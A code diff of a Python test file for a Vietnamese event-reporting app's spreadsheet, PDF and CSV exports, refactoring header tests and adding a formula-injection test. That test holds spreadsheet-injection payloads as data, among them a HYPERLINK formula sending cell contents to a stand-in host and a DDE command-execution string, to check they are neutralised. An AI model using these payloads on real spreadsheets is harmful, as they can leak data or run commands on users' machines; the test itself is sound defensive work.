@@ -2,17 +2,18 @@
 back (openpyxl, pypdf, csv)."""
 import csv
 import io
+import zipfile
 from datetime import UTC, date, datetime
 
 import pytest
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
-from eventhub.reports import exports
+from eventhub.reports import document, exports
 from eventhub.reports.periods import CountRow, EventRow, GroupRow, IndicatorRow, PendingEventRow, PeriodReport
 
-HEADER = exports.DocumentHeader(agency="Sở Khoa học và Công nghệ tỉnh Đắk Lắk", number="125/BC-SKHCN",
-                                place="Đắk Lắk", issued_on=date(2026, 7, 5), governing_body="UBND tỉnh Đắk Lắk")
+HEADER = document.DocumentHeader(agency="Sở Khoa học và Công nghệ tỉnh Đắk Lắk", number="125/BC-SKHCN",
+                                 place="Đắk Lắk", issued_on=date(2026, 7, 5), governing_body="UBND tỉnh Đắk Lắk")
 
 
 def sample_report(**changes) -> PeriodReport:
@@ -52,11 +53,11 @@ def sample_report(**changes) -> PeriodReport:
 
 def test_the_date_line_and_the_number_follow_the_administrative_style(app):
     assert HEADER.date_line == "Đắk Lắk, ngày 05 tháng 7 năm 2026"
-    assert exports.DocumentHeader("A", "1", "Hà Nội", date(2026, 2, 15)).date_line == \
+    assert document.DocumentHeader("A", "1", "Hà Nội", date(2026, 2, 15)).date_line == \
         "Hà Nội, ngày 15 tháng 02 năm 2026"
-    assert exports.abbreviation("Sở Khoa học và Công nghệ tỉnh Đắk Lắk") == "SKHCN"
-    assert exports.abbreviation("UBND huyện Krông Pắc") == "UBND"
-    assert exports.abbreviation("Hội Liên hiệp Phụ nữ tỉnh") == "HLHPN"
+    assert document.abbreviation("Sở Khoa học và Công nghệ tỉnh Đắk Lắk") == "SKHCN"
+    assert document.abbreviation("UBND huyện Krông Pắc") == "UBND"
+    assert document.abbreviation("Hội Liên hiệp Phụ nữ tỉnh") == "HLHPN"
 
 
 def test_period_names(app):
@@ -64,14 +65,6 @@ def test_period_names(app):
     assert exports.period_name(date(2026, 7, 1), date(2026, 12, 31)) == "6 tháng cuối năm 2026"
     assert exports.period_name(date(2026, 1, 1), date(2026, 12, 31)) == "năm 2026"
     assert exports.period_name(date(2026, 3, 1), date(2026, 5, 31)) == "từ ngày 01/03/2026 đến ngày 31/05/2026"
-
-
-def test_default_header_comes_from_the_organisation(factory):
-    province = factory.organisation("UBND tỉnh Đắk Lắk")
-    department = factory.organisation("Sở Khoa học và Công nghệ tỉnh Đắk Lắk", parent_id=province.id)
-    header = exports.default_header(department, date(2026, 12, 31))
-    assert header == exports.DocumentHeader("Sở Khoa học và Công nghệ tỉnh Đắk Lắk", "…/BC-SKHCN", "Đắk Lắk",
-                                            date(2026, 12, 31), "UBND tỉnh Đắk Lắk")
 
 
 def test_xlsx_has_formatted_sheets_with_the_numbers(app):
@@ -147,7 +140,8 @@ def test_pdf_has_the_official_header_tables_charts_and_signature(app):
     data = exports.to_pdf(sample_report(), HEADER)
     assert data.startswith(b"%PDF")
     text = pdf_text(data)
-    for expected in ("UBND TỈNH ĐẮK LẮK", "SỞ KHOA HỌC VÀ CÔNG NGHỆ TỈNH ĐẮK LẮK", "Số: 125/BC-SKHCN",
+    assert "SỞ KHOA HỌC VÀ CÔNG NGHỆ TỈNH" not in text  # the province is named once, by the governing body
+    for expected in ("UBND TỈNH ĐẮK LẮK SỞ KHOA HỌC VÀ CÔNG NGHỆ CỘNG HÒA", "Số: 125/BC-SKHCN",
                      "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc",
                      "Đắk Lắk, ngày 05 tháng 7 năm 2026", "BÁO CÁO", "6 tháng đầu năm 2026",
                      "I. KẾT QUẢ THỰC HIỆN CÁC CHỈ TIÊU", "Số học viên được tập huấn", "1.534", "127,8%",
@@ -172,3 +166,36 @@ def test_an_empty_period_still_makes_every_file(app):
     workbook = load_workbook(io.BytesIO(exports.to_xlsx(report, HEADER)))
     assert [c.value for c in workbook["Sự kiện"][2]][1] == "Tổng cộng"
     assert exports.to_csv(report, HEADER).decode("utf-8-sig").count("\r\n") > 5
+
+
+def test_text_that_came_from_people_never_becomes_a_formula(app):
+    link = '=HYPERLINK("http://x.example/?d="&B2,"Xem")'
+    report = sample_report(
+        organisations=("+UBND huyện Krông Pắc",),
+        indicators=(IndicatorRow("events:tag=clb", "-2 CLB khởi nghiệp", "@SUM(A1)", 2, 1, 50.0, 0),),
+        events_by_type=(CountRow("\t=1+1", 1, 0),), participants_by_group=(GroupRow("\r=1+1", 3, 2, 2),),
+        events=(EventRow(7, link, "Hội thảo", "Cấp tỉnh", "=cmd|' /C calc'!A0", datetime(2026, 3, 10, 1, 0, tzinfo=UTC),
+                         "-Đắk Lắk", 3, 2),),
+        snapshot_note="+1")
+    header = document.DocumentHeader(agency="@Sở KH&CN", number="-2/BC-SKHCN", place="Đắk Lắk",
+                                    issued_on=date(2026, 7, 5))
+    data = exports.to_xlsx(report, header)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert len(sheets) == 5 and not any("<f>" in xml for xml in sheets)
+    workbook = load_workbook(io.BytesIO(data))
+    summary, indicators, events, groups, _pending = (workbook[name] for name in workbook.sheetnames)
+    typed = [summary["B1"], summary["B2"], summary["B4"], summary["B8"], summary["A11"], indicators["B2"],
+             indicators["C2"], events["B2"], events["E2"], events["H2"], groups["A2"]]
+    assert [c.value for c in typed] == ["@Sở KH&CN", "-2/BC-SKHCN", "+UBND huyện Krông Pắc", "+1", "\t=1+1",
+                                        "-2 CLB khởi nghiệp", "@SUM(A1)", link, "=cmd|' /C calc'!A0", "-Đắk Lắk",
+                                        "\n=1+1"]  # XML reads a carriage return as a line feed
+    assert all(c.data_type == "s" and c.quotePrefix for c in typed)
+    assert events["I2"].value == 3 and events["I2"].data_type == "n"  # the figures stay numbers
+
+    rows = list(csv.reader(io.StringIO(exports.to_csv(report, header).decode("utf-8-sig"), newline="")))
+    assert rows[1] == ["Cơ quan ban hành", "'@Sở KH&CN"] and rows[2] == ["Đơn vị", "'+UBND huyện Krông Pắc"]
+    assert ["1", "'-2 CLB khởi nghiệp", "'@SUM(A1)", "2", "1", "50.0", "0"] in rows
+    assert ["'\t=1+1", "1", "0"] in rows and ["'\r=1+1", "3", "2", "2", "66.7"] in rows
+    event = rows[rows.index(["Danh sách sự kiện đã tổ chức"]) + 2]
+    assert event[1] == "'" + link and event[4] == "'=cmd|' /C calc'!A0" and event[7] == "'-Đắk Lắk"
